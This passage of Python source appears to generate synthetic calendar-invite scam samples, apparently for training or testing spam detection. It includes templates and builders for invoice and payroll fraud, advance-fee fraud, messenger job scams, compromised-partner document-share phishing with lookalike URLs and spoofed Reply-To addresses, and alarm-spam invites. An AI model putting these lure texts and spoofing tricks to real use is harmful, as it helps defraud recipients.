    dict(sum="Overdue invoice {inv} - payment reminder", d="Hi,\nOur records show invoice {inv} for {amount} is now 15 days overdue. Please process today to the updated account in the attached remittance form. We cannot release the next shipment until payment is received.\n\n{sender}", kind="supplier"),
    dict(sum="Payroll update before cut-off", d="Hi {first}, please update my salary account before Friday's run. New account details: {iban}. Thank you!\n{sender}", kind="payroll"),
]


def bec(c):
    rng = c.rng
    T = text_for(c, EN_BEC, TX)
    kind_ = T.get("kind", "ceo")
    ename, fl, ll = person(rng, c.lang)
    if kind_ == "supplier":
        sup = company_domain(rng, c.lang)
        dom = company_lookalike(rng, sup)
        prefs = ["lookalike", "compromised", "free", "spoof"]
    else:
        dom = company_lookalike(rng, c.rdomain) if rng.random() < 0.5 else c.rdomain
        prefs = ["free", "lookalike", "spoof"] if dom != c.rdomain else ["spoof", "free", "lookalike"]
    nm, ad, kind = c.identity(prefs, name=ename, domain=dom)
    if kind == "free" and rng.random() < 0.5:
        ad = rng.choice([f"{fl}.{ll}.office", f"ceo.{ll}", f"{fl}{ll}.exec", f"{fl[0]}{ll}{rng.randint(1, 99)}"]) + "@" + ad.split("@")[1]
    s, e = c.ev_time(days=(0, 2), hours=(8, 17), dur=(15, 30))
    iban = rng.choice(["GB", "DE", "LT", "PT", "ES", "NL"]) + f"{rng.randint(10, 99)} " + " ".join(str(rng.randint(1000, 9999)) for _ in range(4))
    v = base_vals(c, sender=ename, inv=f"INV-{rng.randint(2000, 9999)}", amount=money(rng, c.lang, 4800, 96000), iban=iban)
    ev = event(c, fill_(T["sum"], v), fill_(T["d"], v), s, e, (nm, ad), [att(nm, ad, "ACCEPTED"), me(c)])
    spec = dict(frm=(ename, ad), events=[ev], desc=f"BEC ({kind_}) from {kind} sender")
    if rng.random() < 0.3:
        spec["reply_to"] = (ename, f"{fl}.{ll}{rng.randint(1, 9)}@{rng.choice(['gmail.com', 'outlook.com', 'proton.me'])}")
        spec["desc"] += ", divergent Reply-To"
    return spec


# =================================================================== advance fee
EN_ADVFEE = [
    dict(sum="Confidential business proposal", d="Dear Friend,\nI am Barrister {sender}, personal attorney to the late Mr. {lname}, who died with his family in a car accident. He left a deposit of US$8,500,000 with our bank. As you share the same surname I seek your consent to present you as next of kin. Reply with your full name and phone number."),
    dict(sum="UN Compensation Fund - beneficiary {code}", d="This is to inform you that your e-mail was selected among the beneficiaries of the United Nations scam-victims compensation programme. Amount approved: US$1,500,000. Contact the paying officer with your details."),
    dict(sum="Donation of $2,000,000.00 to you", d="I am a retired engineer and lottery winner. I have decided to donate $2,000,000.00 to five individuals this year and your address was chosen. Reply for more information."),
    dict(sum="Consignment box awaiting delivery", d="A diplomatic consignment box registered in your name is held at the airport. Clearance fee of US$650 is required before delivery. Contact the diplomat agent with your full address."),
    dict(sum="Re: Inheritance claim ref {code}", d="Good day, I wrote to you earlier without reply. The fund release of EUR 4.2 million is still pending your confirmation. Kindly reply so we can proceed with the paperwork."),
]


def advfee(c):
    rng = c.rng
    T = text_for(c, EN_ADVFEE, TX)
    sname, fl, ll = person(rng, rng.choice([c.lang, "en"]))
    nm, ad, kind = c.identity(["free", "compromised"], name=sname)
    s, e = c.ev_time(days=(0, 7), hours=(9, 18), dur=(30, 60))
    v = base_vals(c, sender=sname, lname=c.rname.split(" ")[-1], code=f"UN/{rng.randint(100, 999)}/{short_id(rng, 4)}")
    ev = event(c, fill_(T["sum"], v), fill_(T["d"], v), s, e, (nm, ad), [att(nm, ad, "ACCEPTED"), me(c)])
    spec = dict(frm=(nm, ad), events=[ev], desc="advance-fee fraud, reply-to-sender payload")
    if rng.random() < 0.6:
        spec["reply_to"] = (sname, f"{fl}{ll}{rng.randint(10, 999)}@{rng.choice(['gmail.com', 'outlook.com', 'yahoo.com', 'proton.me', 'mail.ru'])}")
    return spec


# =================================================================== task / job scams
EN_JOB = [
    dict(sum="Remote position - earn $300-$800/day", d="Hi {first}, I'm {sender}, recruiter at {brand}. We found your CV online. Flexible remote job, 60-90 min a day, paid daily. Add me on WhatsApp {wa} to get started.", brand="TalentBridge Staffing"),
    dict(sum="Part-time product rating job (paid daily)", d="Rate products for online merchants from your phone. Earn commission on every task, no experience required. Contact our HR manager on Telegram {tg}.", brand="ShopBoost"),
    dict(sum="Interview: Data Entry Assistant (remote)", d="Congratulations, your application was shortlisted. The interview will be conducted via text chat. Please download Telegram and message {tg} with the code {code}.", brand="Northline Solutions"),
    dict(sum="Hi {first}, are you still looking for a job?", d="Our company is hiring online assistants. Salary 2,000-5,000 USD per month. Work from home. Please reply on WhatsApp: {wa}", brand=""),
    dict(sum="YouTube like-and-subscribe task - $5 per task", d="Simple tasks: like videos and send screenshots. $5 per task, 20 tasks a day. Payment via PayPal or crypto. Message me on WhatsApp {wa}", brand="Influencer Growth Team"),
]


def job(c):
    rng = c.rng
    T = text_for(c, EN_JOB, TX)
    sname, fl, ll = person(rng, c.lang)
    tg = "@" + rng.choice(["hr", "recruit", "job", "career", "task"]) + "_" + alnum(rng, 5, "abcdefghijklmnopqrstuvwxyz") + str(rng.randint(1, 99))
    wa = mobile(rng, rng.choice([c.lang, "en", "hi"]))
    brand = T.get("brand") or org_name(company_domain(rng, c.lang))
    nm, ad, kind = c.identity(["free", "compromised", "lookalike"], name=sname)
    s, e = c.ev_time(days=(0, 5), hours=(9, 20), dur=(30, 45))
    v = base_vals(c, sender=sname, brand=brand, tg=tg, wa=wa)
    ev = event(c, fill_(T["sum"], v), fill_(T["d"], v), s, e, (nm, ad), [att(nm, ad, "ACCEPTED"), me(c)])
    r = rng.random()
    link = f"https://wa.me/{''.join(ch for ch in wa if ch.isdigit())}" if r < 0.5 else f"https://t.me/{tg[1:]}"
    slot = place(c, ev, link, ["location", "url", "desc"], "")
    spec = dict(frm=(sname, ad), events=[ev], desc=f"task/job scam moving victim to a messenger ({slot})")
    if c.base == "booking":
        spec["booking"] = dict(brand="Calendry", prodid="-//Calendry//Scheduling//EN", host="calendry.example.com",
                               uid_dom="calendry.example.com", filename="invite.ics", dtstyle="utc")
        spec["subject"] = f"New Event: {sname} - {ev['summary']}"
        spec["body"] = f"Hi {c.rfirst},\n\nA new event has been scheduled.\n\nEvent type: {ev['summary']}\nInvitee: {sname}\n\nQuestions/notes:\n{ev['description']}\n\nView event in Calendry"
        spec["frm"] = ("Calendry", "notifications@calendry.example.com")
        spec["sender_kind"] = "esp"
    return spec


# =================================================================== doc share from compromised partner
EN_DOCSHARE = [
    dict(sum="{org} - Shared Document for Review", d="Hi,\n{sender} has shared a secure document with you.\nPlease review at your earliest convenience.\n\nThanks,\n{sender}\n{org}", cta="Open document"),
    dict(sum="Updated proposal - {org}", d="Hello {first},\nAs discussed, attached is our updated proposal and pricing for next quarter. Access code: {code}", cta="View proposal"),
    dict(sum="RFQ {ref} - drawings and specifications", d="Good morning,\nPlease find the RFQ documents for project {ref}. Kindly quote by {date}.\n\nBest regards,\n{sender}\nPurchasing | {org}", cta="Download RFQ package"),
    dict(sum="Payment confirmation {ref}", d="Hi {first}, payment for your last invoice was processed today. See the confirmation below and let me know if the amount is correct.\n{sender}", cta="Payment advice (PDF)"),
    dict(sum="{org} shared \"Contract_{year}_signed.pdf\" with you", d="{sender} ({org}) shared a file with you.\n\"Final signed version, please countersign.\"", cta="Open"),
    dict(sum="Meeting notes & next steps", d="Thanks for the call earlier. I've put the notes and the revised timeline in the shared folder.\n\nBest,\n{sender}", cta="Shared folder"),
]


def docshare(c):
    rng = c.rng
    T = text_for(c, EN_DOCSHARE, TX)
    pdom = company_domain(rng, c.lang)
    sname, fl, ll = person(rng, c.lang)
    nm, ad, kind = c.identity(["compromised"], name=sname, domain=pdom, comp_domain=pdom)
    oname = org_name(pdom)
    s, e = c.ev_time(days=(0, 3), hours=(8, 17), dur=(15, 30))
    v = base_vals(c, sender=sname, org=oname, date=fdate(c, s))
    r = rng.random()
    if r < 0.3:
        url = f"https://{latin(oname)[:12]}-my.{rng.choice(['sharepoint-docs', 'onedrive-share', 'sharefile-secure'])}.{rng.choice(['com', 'net', 'app'])}/:b:/g/personal/{fl}_{ll}/{alnum(rng, 22)}"
    elif r < 0.55:
        url = f"https://{alnum(rng, 9, 'abcdefghijklmnopqrstuvwxyz')}.{rng.choice(['notion.site', 'webflow.io', 'weebly.com', 'wixsite.com', 'canva.site', 'glitch.me'])}/{alnum(rng, 6)}"
    elif r < 0.75:
        url = f"https://{company_domain(rng, 'en')}/.well-known/{alnum(rng, 5)}/doc/?{c.rcpt}"
    else:
        url = f"https://{lookalike(rng, ['docs', 'share', 'files', 'drive', 'secure-doc'])}/{alnum(rng, 10)}"
    others = []
    if rng.random() < 0.5:
        others = [att(None, a) for a in harvested(c, rng.randint(4, 25))]
    ev = event(c, fill_(T["sum"], v), fill_(T["d"], v), s, e, (sname, ad), [att(sname, ad, "ACCEPTED"), me(c)] + others)
    slot = place(c, ev, url, ["altdesc", "attach", "url", "location", "desc"], T.get("cta", ""), filename=rng.choice(
        [f"{oname.replace(' ', '_')}_Document.pdf", "Proposal.pdf", "RFQ_package.zip", "Payment_Advice.pdf"]))
    return dict(frm=(sname, ad), events=[ev], desc=f"document-share lure from compromised partner mailbox ({slot})",
                compromised_partner=True)


# =================================================================== nagging payloads
EN_NAG = [
    dict(sum="🎰 500 FREE SPINS waiting for you", d="Your welcome bonus: 500 free spins + 200% deposit match. No wagering on spins. 18+ only.", cta="Play now:"),
    dict(sum="Reminder: your daily dose", d="Generic Viagra / Cialis from $0.79 per pill. No prescription needed. Discreet worldwide shipping.", cta="Order:"),
    dict(sum="Lose 12 kg in 30 days - reminder", d="Doctors hate this simple trick. Your personal plan is ready.", cta="Get your plan:"),
    dict(sum="YOUR COMPUTER IS INFECTED (3 viruses)", d="Virus scan completed: 3 threats detected. Remove them immediately.", cta="Clean now:"),
]


def nag(c):
    rng = c.rng
    T = text_for(c, EN_NAG, TX)
    url = f"https://{throwaway_domain(rng)}/{rng.choice(['go', 'r', 'bonus', 'promo'])}/{alnum(rng, 6)}"
    nm, ad, kind = c.identity(["vps", "free", "lookalike"], domain=throwaway_domain(rng), name=rng.choice([None, "Promo", "VIP Club"]))
    style = rng.choice(["endless", "alarms", "future", "endless-alarms"])
    if style == "future":
        s, e = c.ev_time(days=(3650, 30000), hours=(0, 23), dur=(60, 60))
    else:
        s, e = c.ev_time(days=(-30, 2), hours=(0, 23), dur=(30, 240))
    v = base_vals(c, date=fdate(c, s))
    ev = event(c, fill_(T["sum"], v), fill_(T["d"], v), s, e, (nm, ad), [me(c)])
    place(c, ev, url, ["desc", "location", "url"], T.get("cta", ""))
    parts = []
    if style in ("endless", "endless-alarms", "future"):
        ev["rrule"] = rng.choice(["FREQ=DAILY", "FREQ=HOURLY;INTERVAL=2", "FREQ=DAILY;COUNT=9999", "FREQ=MINUTELY;INTERVAL=30",
                                  "FREQ=DAILY;INTERVAL=1", "FREQ=WEEKLY;BYDAY=MO,TU,WE,TH,FR,SA,SU"])
        parts.append("recurrence " + ev["rrule"])
    if style in ("alarms", "endless-alarms"):
        n = rng.randint(12, 60)
        ev["alarms"] = sorted({rng.randint(0, 2880) for _ in range(n)})
        parts.append(f"{len(ev['alarms'])} alarms")
    else:
        ev["alarms"] = [0]
    if style == "future":
        parts.append(f"start in {s.year}")
    return dict(frm=(nm, ad), events=[ev], desc="nagging payload: " + ", ".join(parts))


# =================================================================== mass invite
EN_MASS = [
    dict(sum="SEO services - page 1 on Google guaranteed", d="We help businesses like yours rank on page 1. Monthly plans from $199. Reply for a free audit.", cta="Free audit:"),
    dict(sum="Wholesale N95 / KN95 masks - factory price", d="Direct from factory, CE/FDA certified, MOQ 10,000 pcs. Price list attached. WhatsApp: {wa}", cta=""),
    dict(sum="Email lists for sale - 42 million verified contacts", d="B2B and B2C e-mail databases by industry and country. 98% deliverability. Sample available.", cta="Price list:"),
    dict(sum="WEBINAR: Make $10,000/month with dropshipping", d="Free masterclass. Seats are limited, reserve yours now!", cta="Register:"),
]


def mass(c):
    rng = c.rng
    T = text_for(c, EN_MASS, TX)
    url = f"https://{throwaway_domain(rng)}/{alnum(rng, 5)}"
    nm, ad, kind = c.identity(["free", "vps", "compromised"], name=None)
    s, e = c.ev_time(days=(0, 10), hours=(8, 20), dur=(60, 60))
    v = base_vals(c, wa=mobile(rng, c.lang))
    n = rng.randint(150, 420)
    others = harvested(c, n)
    atts = [att(None, a) for a in others[: n // 2]] + [me(c)] + [att(None, a) for a in others[n // 2:]]
    ev = event(c, fill_(T["sum"], v), fill_(T["d"], v), s, e, (nm, ad), [att(nm, ad, "ACCEPTED")] + atts)
    place(c, ev, url, ["desc", "location", "url"], T.get("cta", ""))
    spec = dict(frm=(nm, ad), events=[ev], desc=f"mass invitation to {len(atts)} unrelated attendees")
    vis = rng.random()
    if vis < 0.4:
        spec["to"] = [(None, a["addr"]) for a in atts]
    elif vis < 0.7:
        spec["to"] = [(nm, ad)]
    return spec


BUILDERS = {"retail-sale": retail, "prize-survey": prize, "crypto-investment": crypto, "dating-sextortion": dating,
            "fee-scam": fee, "credential-phish": phish, "callback-scam": callback, "fake-update": update, "bec": bec,
            "advance-fee": advfee, "task-job-scam": job, "doc-share-compromised": docshare, "nagging-payload": nag,
            "mass-invite": mass}
